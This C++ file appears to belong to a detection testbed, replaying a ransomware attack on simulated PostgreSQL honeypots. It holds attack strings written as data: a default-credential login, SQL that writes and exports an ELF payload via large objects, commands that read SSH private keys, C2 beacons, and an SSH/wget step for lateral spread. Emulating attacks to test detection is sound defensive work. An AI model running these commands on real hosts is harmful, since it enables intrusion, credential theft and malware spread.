#include "net/flow.hpp"
#include "replay/ransomware.hpp"
#include "sim/engine.hpp"

namespace at::replay {

namespace {

net::Flow probe_flow(net::Ipv4 src, net::Ipv4 dst, util::SimTime ts) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = src;
  flow.dst = dst;
  flow.src_port = 51000;
  flow.dst_port = net::ports::kPostgres;
  flow.state = net::ConnState::kAttempt;
  return flow;
}

net::Flow beacon_flow(net::Ipv4 src, net::Ipv4 dst, util::SimTime ts) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = src;
  flow.dst = dst;
  flow.src_port = 40777;
  flow.dst_port = 443;
  flow.state = net::ConnState::kEstablished;
  flow.bytes_out = 1480;
  return flow;
}

}  // namespace

util::SimTime RansomwareScenario::schedule(testbed::Testbed& bed, util::SimTime start) {
  compromised_.clear();
  spread_by_depth_.assign(config_.max_spread_depth + 1, 0);
  entry_time_ = start + config_.probe_lead;
  second_wave_time_ = entry_time_ + config_.second_wave_delay;

  auto& engine = bed.engine();
  if (bed.postgres().empty()) return start;  // testbed not deployed
  const net::Ipv4 entry_addr = bed.postgres().front()->address();

  // --- Repeated probing of port 5432 in the days before entry
  // ("There have been repeated probing of PostgreSQL database ports in
  // October"). The testbed outlives the engine run, so capturing it by
  // pointer is safe.
  testbed::Testbed* bed_ptr = &bed;
  const util::SimTime probe_period =
      util::kDay / static_cast<util::SimTime>(config_.probes_per_day);
  for (util::SimTime offset = 0; offset < config_.probe_lead; offset += probe_period) {
    const util::SimTime t = start + offset;
    engine.schedule_at(t, [bed_ptr, entry_addr, this](sim::Engine& eng) {
      bed_ptr->inject_flow(probe_flow(config_.attacker, entry_addr, eng.now()));
    });
  }

  // --- Entry + compromise of the first instance.
  engine.schedule_at(entry_time_, [bed_ptr, this](sim::Engine& eng) {
    compromise_host(*bed_ptr, 0, eng.now(), 0);
  });

  // --- Twelve days later: the matching wave against another instance
  // (standing in for the production incident of Nov 10).
  engine.schedule_at(second_wave_time_, [bed_ptr, this](sim::Engine& eng) {
    if (bed_ptr->postgres().size() > 1) {
      const net::Ipv4 addr = bed_ptr->postgres().back()->address();
      bed_ptr->inject_flow(probe_flow(config_.attacker, addr, eng.now()));
    }
  });

  return second_wave_time_ + util::kHour;
}

void RansomwareScenario::compromise_host(testbed::Testbed& bed, std::size_t instance_index,
                                         util::SimTime when, std::size_t depth) {
  if (instance_index >= bed.postgres().size()) return;
  auto& pg = *bed.postgres()[instance_index];
  if (!compromised_.insert(pg.host()).second) return;  // already infected
  ++spread_by_depth_[depth];
  bed.vms().mark_capturing(static_cast<std::uint32_t>(instance_index + 1));

  auto& engine = bed.engine();
  testbed::Testbed* bed_ptr = &bed;

  // Authenticate with the privileged default credentials the honeypot
  // advertises.
  auto session = pg.connect(config_.attacker, "postgres", "postgres", when);
  if (!session) return;

  // Step 1: version reconnaissance.
  pg.query(*session, "SHOW server_version_num", when + 5);
  // Step 2: hex-ELF payload into a large object.
  pg.query(*session,
           "SELECT lo_create(0); SELECT lowrite(0, decode('7F454C46...', 'hex'))",
           when + 65);
  // Step 3: export to disk.
  pg.query(*session, "SELECT lo_export(16385, '" + config_.payload_path + "')", when + 130);

  // Harvest SSH material on the instance (keys + historical hosts).
  auto& ssh = *bed.ssh()[instance_index];
  ssh.exec("postgres", "cat /var/lib/postgresql/.ssh/id_rsa", when + 200);
  ssh.exec("postgres", "cat /var/lib/postgresql/.ssh/known_hosts", when + 230);

  // Beacon to the command-and-control server — the egress sandbox drops
  // the packets but Zeek observes the attempts; this is where the model
  // detected the attack in the paper.
  for (std::size_t b = 0; b < config_.beacon_count; ++b) {
    const util::SimTime t = when + 300 + static_cast<util::SimTime>(b) * config_.beacon_period;
    const net::Ipv4 src = pg.address();
    engine.schedule_at(t, [bed_ptr, src, this](sim::Engine& eng) {
      bed_ptr->inject_flow(beacon_flow(src, config_.c2_server, eng.now()));
    });
  }

  // Recursive lateral movement (Fig 5): for every known host, use the
  // stolen key in batch mode to spread the payload.
  if (depth >= config_.max_spread_depth) return;
  util::SimTime next = when + 600;
  for (const auto& peer_name : pg.known_hosts()) {
    // Find the peer instance by hostname.
    for (std::size_t j = 0; j < bed.postgres().size(); ++j) {
      if (bed.postgres()[j]->host() != peer_name) continue;
      if (compromised_.contains(peer_name)) break;
      const std::size_t peer_index = j;
      const util::SimTime hop_time = next;
      const net::Ipv4 from_addr = pg.address();
      next += 120;
      engine.schedule_at(hop_time, [bed_ptr, peer_index, from_addr, depth,
                                    this](sim::Engine& eng) {
        auto& target_ssh = *bed_ptr->ssh()[peer_index];
        target_ssh.authorize_key(config_.stolen_key);  // trust relationship
        if (target_ssh.login_with_key(from_addr, config_.stolen_key, eng.now())) {
          target_ssh.exec("postgres",
                          "ssh -o BatchMode=yes; wget hXXp://" +
                              config_.c2_server.anonymized() + "/sys.x86_64",
                          eng.now() + 10);
          compromise_host(*bed_ptr, peer_index, eng.now() + 30, depth + 1);
        }
      });
      break;
    }
  }
}

std::optional<testbed::Notification> first_notification_after(const testbed::Testbed& bed,
                                                              util::SimTime from,
                                                              const std::string& detector) {
  const testbed::Notification* best = nullptr;
  for (const auto& note : bed.pipeline().notifications()) {
    if (note.ts < from) continue;
    if (!detector.empty() && note.detector != detector) continue;
    if (best == nullptr || note.ts < best->ts) best = &note;
  }
  if (best == nullptr) return std::nullopt;
  return *best;
}

}  // namespace at::replay
